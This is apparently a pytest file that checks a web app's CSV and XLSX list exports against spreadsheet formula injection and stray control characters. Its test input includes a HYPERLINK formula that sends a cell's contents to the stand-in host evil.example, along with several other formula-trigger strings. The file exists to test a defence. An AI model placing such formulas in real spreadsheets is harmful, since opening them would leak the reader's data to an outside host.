"""Lists as files: what anybody typed comes out as words, in both formats."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from thanjai.web.sheets import Sheet, as_csv, as_xlsx

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"เปิด")'


def sheet(*cells: str) -> Sheet:
    return Sheet("list", "รายการ", ["หัวข้อ", FORMULA], [cells])


def bytes_of(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


@pytest.mark.parametrize("typed", [FORMULA, "+66812345678", "-5", "@SUM(A1)", "\t=1", " =1", "＝1"])
def test_no_cell_is_run_as_a_formula(typed: str) -> None:
    lines = list(csv.reader(io.StringIO(bytes_of(as_csv(sheet(typed, "ก"))).decode("utf-8-sig"))))
    assert lines == [["หัวข้อ", f"'{FORMULA}"], [f"'{typed}", "ก"]]
    page = load_workbook(io.BytesIO(bytes_of(as_xlsx(sheet(typed, "ก"))))).active
    cells = [cell for row in page.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells] == ["s"] * 4 and page["A2"].value == typed
    assert [bool(cell.quotePrefix) for cell in cells] == [False, True, True, False]


@pytest.mark.parametrize("sign", ["\x0b", "\x00", "\x1f", "\ud800"])
def test_a_sign_that_came_with_copied_text_does_not_lose_the_list(sign: str) -> None:
    assert b"ab" in bytes_of(as_csv(sheet(f"a{sign}b", "ก")))
    assert load_workbook(io.BytesIO(bytes_of(as_xlsx(sheet(f"a{sign}b", "ก"))))).active["A2"].value == "ab"
